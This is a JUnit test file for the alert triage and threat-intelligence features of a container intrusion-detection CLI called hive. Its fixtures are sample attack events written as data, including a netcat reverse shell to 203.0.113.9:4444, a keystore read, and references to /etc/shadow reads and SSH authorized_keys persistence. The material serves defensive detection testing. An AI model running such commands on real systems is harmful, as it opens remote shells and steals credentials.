package io.hivesec.examples.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.hivesec.json.HiveModule;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** How alerts are judged: {@code hive triage fit}, and {@code --weights} and {@code --intelligence} of {@code hive watch}. */
final class TriageCommandTest {
    @TempDir
    private Path folder;

    private Path events;

    @BeforeEach
    void write() throws IOException {
        events = Files.writeString(
                folder.resolve("events.jsonl"),
                "{\"type\":\"process_started\",\"time\":\"2026-01-05T08:00:00Z\",\"container\":{\"id\":\"c1\","
                        + "\"name\":\"web\",\"image\":\"web:1\"},\"process\":{\"pid\":7,\"executable\":\"/bin/sh\","
                        + "\"arguments\":[\"sh\",\"-c\",\"nc 203.0.113.9 4444 -e /bin/sh\"]}}\n");
    }

    private JsonNode alert(Object... options) throws IOException {
        Object[] arguments = new Object[options.length + 4];
        System.arraycopy(new Object[] {"watch", "--format", "jsonl"}, 0, arguments, 0, 3);
        System.arraycopy(options, 0, arguments, 3, options.length);
        arguments[options.length + 3] = events;
        Run run = Run.hive(arguments);
        assertThat(run.status()).as(run.err()).isEqualTo(ExitStatus.FOUND);
        return HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
    }

    private static double probability(JsonNode alert) {
        return alert.path("triage").path("probability").asDouble();
    }

    private static JsonNode signal(JsonNode alert, String name) {
        for (JsonNode signal : alert.path("triage").path("signals")) {
            if (signal.path("signal").asText().equals(name)) {
                return signal;
            }
        }
        throw new AssertionError("no signal " + name + " in " + alert.path("triage"));
    }

    /** The alert as if it had been raised and decided so often. */
    private Path decided(int handled, int marked) throws IOException {
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < handled + marked; i++) {
            ObjectNode alert = (ObjectNode) alert();
            alert.put("id", "alert-" + i).put("status", i < handled ? "handled" : "marked");
            lines.append(alert).append('\n');
        }
        return Files.writeString(folder.resolve("alerts.jsonl"), lines);
    }

    @Test
    void fit_alertsThatWereHarmless_makesWeightsThatLowerTheNext() throws IOException {
        Run fit = Run.hive("triage", "fit", decided(0, 6));
        assertThat(fit.status()).isEqualTo(ExitStatus.NOTHING_FOUND);
        String rule = alert().path("rule").asText();
        assertThat(fit.out().lines().skip(1)).anyMatch(line -> line.startsWith("prior.rule." + rule + " = "));
        Path weights = Files.writeString(folder.resolve("weights.properties"), fit.out());
        assertThat(probability(alert("--weights", weights))).isLessThan(probability(alert()));
    }

    @Test
    void fit_alertsOfWhichNoneIsDecided_saysSo() throws IOException {
        Path open = Files.writeString(folder.resolve("open.jsonl"), alert().toString());
        Run fit = Run.hive("triage", "fit", open);
        assertThat(fit.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(fit.err()).contains("is marked or handled");
    }

    @Test
    void fit_alertsThatWereReal_makesWeightsThatRaiseTheNext() throws IOException {
        Path weights = Files.writeString(
                folder.resolve("weights.properties"),
                Run.hive("triage", "fit", decided(9, 0)).out());
        double fitted =
                signal(alert("--weights", weights), "prior").path("decibans").asDouble();
        assertThat(fitted)
                .isGreaterThan(signal(alert(), "prior").path("decibans").asDouble());
    }

    @Test
    void fit_tooFewDecisions_leavesEverythingAsBundled() throws IOException {
        Run fit = Run.hive("triage", "fit", decided(1, 1));
        assertThat(fit.status()).isEqualTo(ExitStatus.NOTHING_FOUND);
        assertThat(fit.out().lines()).singleElement().asString().startsWith("# Fitted to 2 decided alerts");
    }

    @Test
    void fit_lineThatIsNoAlert_isRefusedWithItsNumber() throws IOException {
        Path file = decided(1, 0);
        Files.writeString(file, Files.readString(file) + "{\"id\":1}\n");
        Run run = Run.hive("triage", "fit", file);
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("alerts.jsonl:2: no alert");
    }

    @Test
    void triage_withoutSubcommand_saysSo() {
        Run run = Run.hive("triage");
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("Missing a subcommand");
    }

    @ParameterizedTest
    @ValueSource(strings = {"target.EXTERNAL = much", "repeats = 1000", "known-bad = NaN"})
    void weights_thatAreNone_areRefusedWithTheirName(String line) throws IOException {
        Path weights = Files.writeString(folder.resolve("weights.properties"), line);
        Run run = Run.hive("watch", "--weights", weights, events);
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("weights.properties: " + line.substring(0, line.indexOf(' ')));
    }

    @Test
    void intelligence_ofEveryForm_isASignalWithItsWords() throws IOException {
        Path csv = Files.writeString(folder.resolve("a.csv"), "203.0.113.9:4444,seen in a campaign\n");
        Path misp = Files.writeString(
                folder.resolve("a.json"),
                "{\"Event\":{\"info\":\"seen in a campaign\",\"Attribute\":[{\"type\":\"ip-dst\",\"to_ids\":true,"
                        + "\"value\":\"203.0.113.9\"}]}}");
        for (Path file : new Path[] {csv, misp}) {
            JsonNode alert = alert("--intelligence", file);
            assertThat(signal(alert, "known-bad").path("detail").asText()).contains("203.0.113.9");
            assertThat(probability(alert)).isGreaterThan(probability(alert()));
        }
    }

    @Test
    void intelligence_aboutOthers_isNoSignal() throws IOException {
        Path csv = Files.writeString(folder.resolve("a.csv"), "203.0.113.90,seen in a campaign\n");
        JsonNode triage = alert("--intelligence", csv).path("triage");
        assertThat(triage.path("signals").findValuesAsText("signal")).doesNotContain("known-bad");
        assertThat(triage.path("notChecked").toString()).doesNotContain("threat intelligence");
    }

    /** The recording of the demo: a shell, secrets, looking around, persistence, a download, and a scan. */
    @Test
    void watch_ofAnAttackedContainer_endsWithACompleteTriage() throws IOException {
        Path recording = folder.resolve("web.jsonl.gz");
        try (InputStream in = TriageCommand.class.getResourceAsStream("demo/web-attacked.jsonl.gz")) {
            Files.copy(in, recording);
        }
        Run run = Run.hive("watch", "--format", "jsonl", recording);
        JsonNode shell = null;
        for (String line : run.out().lines().toList()) {
            JsonNode alert = HiveModule.mapper().readTree(line);
            shell = alert.path("type").asText().equals("reverse_shell") ? alert : shell;
        }
        assertThat(signal(shell, "target-scope").path("detail").asText()).isEqualTo("10.213.0.3:4444 is internal");
        assertThat(seen(shell, "after-credential-read")).contains("cat read /etc/shadow", "cat read /proc/1/environ");
        assertThat(seen(shell, "after-reconnaissance")).contains("/usr/bin/id", "/usr/bin/whoami", "/usr/bin/ls");
        assertThat(seen(shell, "after-persistence")).contains("bash wrote /root/.ssh/authorized_keys");
        assertThat(seen(shell, "new-peers")).contains("10.213.0.3:22", "10.213.0.3:6379", "10.213.0.3:8080");
        assertThat(seen(shell, "correlated-alerts")).contains("privilege-escalation.account-file");
        assertThat(shell.path("triage").path("band").asText()).isEqualTo("high");
    }

    private static List<String> seen(JsonNode alert, String name) {
        return signal(alert, name).path("seen").findValuesAsText("what");
    }

    /** A script that reads a keystore and then gives a shell, as a sensor that tells no arguments apart sees it. */
    @Test
    void watch_ofAShellBehindASecret_tellsWhatCameBefore() throws IOException {
        String container = "\"container\":{\"id\":\"c1\",\"name\":\"search\",\"image\":\"search:1\"}";
        String script = "\"ancestors\":[{\"pid\":30,\"executable\":\"/bin/sh\",\"arguments\":[\"sh\",\"x.sh\"]},"
                + "{\"pid\":1,\"executable\":\"/usr/bin/java\"}]}\n";
        Path file = Files.writeString(
                folder.resolve("script.jsonl"),
                "{\"type\":\"process_started\",\"time\":\"2026-01-05T08:00:00Z\"," + container
                        + ",\"process\":{\"pid\":31,\"ppid\":30,\"executable\":\"/bin/cat\","
                        + "\"arguments\":[\"cat\",\"/srv/search/search.keystore\"]}," + script
                        + "{\"type\":\"process_started\",\"time\":\"2026-01-05T08:00:01Z\"," + container
                        + ",\"process\":{\"pid\":32,\"ppid\":30,\"executable\":\"/bin/nc\","
                        + "\"arguments\":[\"nc\",\"203.0.113.9\",\"4444\",\"-e\",\"/bin/sh\"]}," + script);
        Run run = Run.hive("watch", "--format", "jsonl", file);
        JsonNode shell =
                HiveModule.mapper().readTree(run.out().lines().findFirst().orElseThrow());
        assertThat(seen(shell, "before-credential-read")).containsExactly("cat /srv/search/search.keystore");
        assertThat(signal(shell, "target-scope").path("detail").asText()).contains("external");
    }

    @ParameterizedTest
    @ValueSource(strings = {"--intelligence", "--weights"})
    void file_thatIsMissing_isRefused(String option) {
        Run run = Run.hive("watch", option, folder.resolve("none"), events);
        assertThat(run.status()).isEqualTo(ExitStatus.COULD_NOT_RUN);
        assertThat(run.err()).contains("none");
        assertThat(run.out()).isEmpty();
    }
}
